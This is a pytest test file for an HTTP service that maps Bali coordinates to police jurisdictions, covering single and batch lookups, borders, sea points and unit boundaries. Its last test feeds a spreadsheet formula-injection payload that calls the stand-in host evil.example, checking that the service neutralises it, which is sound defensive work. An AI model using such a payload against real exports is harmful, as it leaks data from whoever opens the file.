"""POST /api/v1/locate and /locate/batch, GET /api/v1/units: the jurisdiction contract over HTTP."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import numpy as np
import pytest

from geo_service.services import batch
from geo_service.services.locate import locate_location

URL = "/api/v1/locate"
VALIDATE_FIELDS = {"status", "point", "original", "format", "uncertainty_m", "confidence", "flags"}
LOCATE_FIELDS = {"match", "jurisdiction", "distance_m", "candidates", "stations", "boundary_set"}
#: A vertex shared by Polsek Ubud (51.04.05) and Polsek Payangan (51.04.07).
UBUD_PAYANGAN_VERTEX = (-8.463477, 115.250243)


def locate(client: Any, auth: Any, body: Any, **headers: str) -> dict[str, Any]:
    r = client.post(URL, json=body, headers={**auth(), **headers})
    assert r.status_code == 200, r.get_json()
    return r.get_json()


def codes(d: dict[str, Any]) -> list[str]:
    return [f["code"] for f in d["flags"]]


def polsek(d: dict[str, Any]) -> str | None:
    return (d["jurisdiction"] or {}).get("polsek", {}).get("code") if d["jurisdiction"] else None


def test_contract_fields_inside_negara(client: Any, auth: Any) -> None:
    d = locate(client, auth, {"lat": -8.3582, "lon": 114.6225})
    assert VALIDATE_FIELDS | LOCATE_FIELDS <= set(d)
    assert d["status"] == "valid" and d["match"] == "inside" and d["distance_m"] == 0.0
    assert d["jurisdiction"] == {"polda": {"code": "51", "name": "Polda Bali"},
                                 "polres": {"code": "51.01", "name": "Polres Jembrana"},
                                 "polsek": {"code": "51.01.01", "name": "Polsek Negara"}}
    assert [c["polsek"]["code"] for c in d["candidates"]] == ["51.01.01"]
    assert isinstance(d["boundary_set"], int)
    assert 1 <= len(d["stations"]) <= 3
    for s in d["stations"]:
        assert s["sample"] is True and {"code", "name", "lat", "lon", "distance_m", "unit_code"} <= set(s)
    # The responsible unit's own station comes first.
    assert d["stations"][0]["unit_code"] == "51.01.01"


def test_text_input_is_located_too(client: Any, auth: Any) -> None:
    d = locate(client, auth, {"text": "8°21'29.52\" LS 114°37'21\" BT"})
    assert d["format"] == "dms" and polsek(d) == "51.01.01"


def test_point_exactly_on_a_shared_border(client: Any, auth: Any) -> None:
    lat, lon = UBUD_PAYANGAN_VERTEX
    d = locate(client, auth, {"lat": lat, "lon": lon})
    assert d["match"] == "border"
    assert "ON_BORDER" in codes(d)
    assert polsek(d) == "51.04.05"  # lowest code wins, never row order
    assert sorted(c["polsek"]["code"] for c in d["candidates"]) == ["51.04.05", "51.04.07"]
    assert all(c["distance_m"] == 0.0 for c in d["candidates"])


def test_uncertainty_circle_crossing_a_border(client: Any, auth: Any) -> None:
    d = locate(client, auth, {"lat": -8.4634, "lon": 115.2502, "uncertainty_m": 500})
    assert d["match"] == "border" and "CIRCLE_CROSSES_BORDER" in codes(d)
    assert d["uncertainty_m"] == 500.0
    shares = [c["share"] for c in d["candidates"]]
    assert len(shares) == 2 and shares == sorted(shares, reverse=True) and abs(sum(shares) - 1.0) < 0.01
    # The same point without a radius is inside one unit.
    d = locate(client, auth, {"lat": -8.4634, "lon": 115.2502})
    assert d["match"] == "inside" and d["uncertainty_m"] < 10


@pytest.mark.parametrize("lat, lon, unit", [
    (-8.2013, 114.4011, "51.01.04"),   # Bali Strait, off Melaya
    (-8.7012, 115.2712, "51.71.01"),   # off Sanur (Denpasar Selatan)
])
def test_at_sea_within_12_nm_is_nearest(client: Any, auth: Any, lat: float, lon: float, unit: str) -> None:
    d = locate(client, auth, {"lat": lat, "lon": lon})
    assert d["match"] == "nearest" and "AT_SEA" in codes(d)
    assert polsek(d) == unit
    assert 0 < d["distance_m"] <= 12 * 1852
    assert d["status"] == "valid" and d["confidence"] < 1.0
    assert codes(d).count("AT_SEA") == 1


def test_far_at_sea_is_none_but_names_the_nearest_unit(client: Any, auth: Any) -> None:
    d = locate(client, auth, {"lat": -10.5013, "lon": 116.5012})
    assert d["match"] == "none" and d["jurisdiction"] is None
    assert "OUTSIDE_SERVICE_AREA" in codes(d) and d["status"] == "suspect"
    assert d["distance_m"] > 12 * 1852
    assert len(d["candidates"]) == 1 and d["candidates"][0]["polsek"]["code"] == "51.05.01"
    assert d["candidates"][0]["distance_m"] == d["distance_m"]


@pytest.mark.parametrize("lat, lon, unit, name", [
    (-8.7301, 115.5402, "51.05.01", "Polsek Nusa Penida"),     # on Nusa Penida island
    (-8.6805, 115.4505, "51.05.01", "Polsek Nusa Penida"),     # Nusa Lembongan
    (-8.2550, 115.4050, "51.06.04", "Polsek Kintamani"),       # Lake Batur: a lake is inside its unit
    (-8.2770, 115.1660, "51.02.09", "Polsek Baturiti"),        # Lake Bratan
    (-8.6705, 115.2126, "51.71.03", "Polsek Denpasar Barat"),  # Denpasar city
])
def test_islands_and_lakes(client: Any, auth: Any, lat: float, lon: float, unit: str, name: str) -> None:
    d = locate(client, auth, {"lat": lat, "lon": lon})
    assert d["match"] == "inside" and codes(d) == []
    assert polsek(d) == unit and d["jurisdiction"]["polsek"]["name"] == name


def test_invalid_and_malformed(client: Any, auth: Any) -> None:
    d = locate(client, auth, {"text": "not a place"})
    assert d["status"] == "invalid" and d["match"] == "none" and d["jurisdiction"] is None
    assert d["candidates"] == [] and d["stations"] == []
    r = client.post(URL, json={"lat": "x"}, headers=auth())
    assert r.status_code == 400 and r.mimetype == "application/problem+json"
    assert {"pointer", "detail"} <= set(r.get_json()["errors"][0])


def test_corrected_point_is_located_where_it_was_meant(client: Any, auth: Any) -> None:
    d = locate(client, auth, {"lat": 114.6225, "lon": -8.3582}, **{"Accept-Language": "en"})
    assert d["status"] == "corrected" and polsek(d) == "51.01.01"
    assert "swapped" in d["flags"][0]["message"]


# ------------------------------------------------------------------ batch


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_batch_json_list_same_order(client: Any, auth: Any) -> None:
    items = [{"lat": -8.3582, "lon": 114.6225}, {"text": "garbage"}, {"lat": 114.6225, "lon": -8.3582},
             {"lat": -8.7012, "lon": 115.2712}, {"lat": "x", "lon": 1}, {"text": "6P3PJJRF+P2"}]
    r = client.post(URL + "/batch", json=items, headers=auth())
    assert r.status_code == 200 and r.mimetype == "application/json"
    out = r.get_json()
    assert [o["status"] for o in out] == ["valid", "invalid", "corrected", "valid", "invalid", "valid"]
    assert [o["match"] for o in out] == ["inside", "none", "inside", "nearest", "none", "inside"]
    assert out[4]["error"]["errors"][0]["pointer"] == "/lat"
    assert set(out[0]) == {"status", "point", "format", "match", "jurisdiction", "distance_m", "confidence", "flags"}


def test_batch_csv_same_order_and_columns(client: Any, auth: Any) -> None:
    data = "id,lat,lon\n1,-8.3582,114.6225\n2,-8.7012,115.2712\n3,114.6225,-8.3582\n4,,\n5,-8.36,114.62\n"
    r = client.post(URL + "/batch", data=data, headers={**auth(), "Content-Type": "text/csv"})
    assert r.status_code == 200 and r.mimetype == "text/csv"
    rows = _csv_rows(r.get_data(as_text=True))
    assert list(rows[0]) == ["id", "input_lat", "input_lon", *batch.CSV_OUT_COLUMNS]
    assert [x["id"] for x in rows] == ["1", "2", "3", "4", "5"]
    # Row 5 is rounded to ~800 m: its circle reaches the neighbours, so the match is "border".
    assert [x["match"] for x in rows] == ["inside", "nearest", "inside", "none", "border"]
    assert [x["polsek_code"] for x in rows] == ["51.01.01", "51.71.01", "51.01.01", "", "51.01.01"]
    assert rows[2]["flags"] == "PRESUMED_SWAPPED_COORDINATE"
    assert rows[4]["flags"].split(";") == ["COORDINATE_ROUNDED", "CIRCLE_CROSSES_BORDER"]
    assert rows[3]["status"] == "invalid"


def test_batch_geojson_same_order_properties_kept(client: Any, auth: Any) -> None:
    fc = {"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"id": 1}, "geometry": {"type": "Point", "coordinates": [114.6225, -8.3582]}},
        {"type": "Feature", "properties": {"id": 2}, "geometry": {"type": "Point", "coordinates": [-8.3582, 114.6225]}},
        {"type": "Feature", "properties": {"id": 3}, "geometry": None},
        {"type": "Feature", "properties": {"id": 4}, "geometry": {"type": "Point", "coordinates": [115.5402, -8.7301]}},
    ]}
    r = client.post(URL + "/batch", data=json.dumps(fc), headers={**auth(), "Content-Type": "application/geo+json"})
    assert r.status_code == 200 and r.mimetype == "application/geo+json"
    out = r.get_json()
    assert out["type"] == "FeatureCollection"
    props = [f["properties"] for f in out["features"]]
    assert [p["id"] for p in props] == [1, 2, 3, 4]
    answers = [p["geo_service"] for p in props]
    assert [a["status"] for a in answers] == ["valid", "corrected", "invalid", "valid"]
    assert answers[1]["jurisdiction"]["polsek"]["code"] == "51.01.01"
    assert out["features"][1]["geometry"]["coordinates"] == [114.6225, -8.3582]  # the corrected point
    assert answers[3]["jurisdiction"]["polsek"]["name"] == "Polsek Nusa Penida"


def test_batch_unsupported_type_is_415(client: Any, auth: Any) -> None:
    r = client.post(URL + "/batch", data="x", headers={**auth(), "Content-Type": "text/plain"})
    assert r.status_code == 415 and r.mimetype == "application/problem+json"


def test_batch_fast_path_equals_per_point_path_over_http(app: Any, client: Any, auth: Any) -> None:
    """The vectorised answers equal the per-point answers (compact) for random points."""
    index = app.extensions["geo_service"].holder.current()
    rng = np.random.default_rng(2024)
    n = 2500
    lon = rng.uniform(114.43, 115.72, n)
    lat = rng.uniform(-8.85, -8.06, n)
    decimals = rng.choice([6, 6, 6, 5, 4, 3, 2], n)
    items: list[dict[str, float]] = []
    for k in range(n):
        a, b = round(float(lat[k]), int(decimals[k])), round(float(lon[k]), int(decimals[k]))
        items.append({"lat": b, "lon": a} if k % 10 == 0 else {"lat": a, "lon": b})  # every tenth swapped
    out = client.post(URL + "/batch", json=items, headers=auth()).get_json()
    assert len(out) == n
    want = [batch.compact(locate_location(it, index)) for it in items]
    assert sum(o["match"] == "inside" for o in out) > n / 4
    mismatches = [(k, items[k], out[k], want[k]) for k in range(n)
                  if json.dumps(out[k], sort_keys=True) != json.dumps(want[k], sort_keys=True)]
    assert not mismatches, mismatches[:3]


#: Rows of the streamed CSV test (1,000,000 in bench/bench_http.py --batch).
STREAM_ROWS = 1_000_000


@pytest.mark.slow
def test_streamed_million_point_csv(sqlite_app: Any, tokens_for: Any) -> None:
    """A 1,000,000-row CSV goes through end to end, streamed, in order (the batch never touches the database,
    so one backend is enough)."""
    index = sqlite_app.extensions["geo_service"].holder.current()
    rng = np.random.default_rng(1)
    lon = rng.uniform(114.43, 115.72, 3 * STREAM_ROWS)
    lat = rng.uniform(-8.85, -8.06, 3 * STREAM_ROWS)
    land = np.flatnonzero(index.locate_many(lon, lat) >= 0)[:STREAM_ROWS]
    lon, lat = lon[land], lat[land]
    lines = [f"{a:.6f},{b:.6f}" for a, b in zip(lat.tolist(), lon.tolist(), strict=True)]
    # One row in a hundred needs the per-point path: at sea, rounded, swapped, unreadable.
    odd = ["-8.7012,115.2712", "-8.36,114.62", "114.6225,-8.3582", "abc,def"]
    for k in range(0, STREAM_ROWS, 100):
        lines[k] = odd[(k // 100) % 4]
    body = ("lat,lon\n" + "\n".join(lines) + "\n").encode()
    client = sqlite_app.test_client()
    headers = {"Authorization": f"Bearer {tokens_for(sqlite_app)['dispatcher']}", "Content-Type": "text/csv"}
    r = client.post(URL + "/batch", data=body, headers=headers, buffered=False)
    assert r.status_code == 200 and r.is_streamed
    chunks = 0
    n_rows = -1
    tail = b""
    matches: dict[str, int] = {}
    for chunk in r.response:
        chunks += 1
        data = tail + (chunk if isinstance(chunk, bytes) else chunk.encode())
        *complete, tail = data.split(b"\n")
        for line in complete:
            n_rows += 1
            if n_rows > 0 and n_rows % 100 == 1:
                m = line.split(b",")[6].decode()
                matches[m] = matches.get(m, 0) + 1
    r.close()
    assert tail == b"" and n_rows == STREAM_ROWS
    assert chunks > 10  # streamed in pieces, not one body
    # The odd rows: at sea -> nearest, rounded -> border (its circle crosses), swapped -> inside, unreadable -> none.
    assert matches == {m: STREAM_ROWS // 400 for m in ("nearest", "border", "inside", "none")}


# ------------------------------------------------------------------ units


def test_units_polres_geojson_and_simplify(client: Any, auth: Any) -> None:
    r = client.get("/api/v1/units?level=polres", headers=auth("officer"))
    assert r.status_code == 200 and r.mimetype == "application/geo+json"
    fc = r.get_json()
    # 9 regency Polres + Polres Kawasan Bandara I Gusti Ngurah Rai (Polri structure, boundaries/police_structure.csv)
    assert fc["type"] == "FeatureCollection" and len(fc["features"]) == 10
    assert {f["properties"]["level"] for f in fc["features"]} == {"polres"}
    assert "51.71" in {f["properties"]["code"] for f in fc["features"]}

    def vertices(collection: dict[str, Any]) -> int:
        import shapely
        from shapely.geometry import shape

        return sum(int(shapely.get_num_coordinates(shape(f["geometry"]))) for f in collection["features"])

    simple = client.get("/api/v1/units?level=polres&simplify=0.005", headers=auth()).get_json()
    assert len(simple["features"]) == 10
    assert vertices(simple) < vertices(fc) / 2
    r = client.get("/api/v1/units?level=polres&simplify=5", headers=auth())
    assert r.status_code == 400 and r.get_json()["errors"][0]["pointer"] == "?simplify"
    r = client.get("/api/v1/units?level=kodim", headers=auth())
    assert r.status_code == 400


def test_one_unit_with_its_chain(client: Any, auth: Any) -> None:
    r = client.get("/api/v1/units/51.01.01", headers=auth("officer"))
    assert r.status_code == 200 and r.mimetype == "application/geo+json"
    f = r.get_json()
    assert f["type"] == "Feature" and f["geometry"]["type"] in ("Polygon", "MultiPolygon")
    assert f["properties"]["code"] == "51.01.01" and f["properties"]["name"] == "Polsek Negara"
    assert f["properties"]["chain"]["polres"]["code"] == "51.01"
    r = client.get("/api/v1/units/99.99", headers=auth())
    assert r.status_code == 404 and r.get_json()["code"] == "UNIT_NOT_FOUND"


def test_batch_csv_writes_back_no_spreadsheet_formula(client: Any, auth: Any) -> None:
    """A caller's text echoed into the answer CSV cannot run as a formula when a supervisor opens it in a
    spreadsheet; plain (negative) numbers stay numbers."""
    data = ('id,lat,lon,note\n=HYPERLINK("http://evil.example/?"&A1;"klik"),-8.3582,114.6225,@SUM(1+1)\n'
            '2,-8.7012,115.2712,+62 812 3456\n3,-8.36,114.62,-8.35\n')
    r = client.post(URL + "/batch", data=data, headers={**auth(), "Content-Type": "text/csv"})
    assert r.status_code == 200, r.get_data(as_text=True)
    rows = _csv_rows(r.get_data(as_text=True))
    assert rows[0]["id"].startswith("'=HYPERLINK(") and rows[0]["note"] == "'@SUM(1+1)"
    assert rows[1]["note"] == "'+62 812 3456" and rows[2]["note"] == "-8.35"
    assert [x["input_lat"] for x in rows] == ["-8.3582", "-8.7012", "-8.36"]  # numbers kept as they were
    assert [x["polsek_code"] for x in rows] == ["51.01.01", "51.71.01", "51.01.01"]  # answers unchanged
    for cell in (c for row in rows for c in row.values()):
        assert not (cell[:1] in "=+@" and cell[:1]) and not (cell.startswith("-") and not _is_number(cell))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
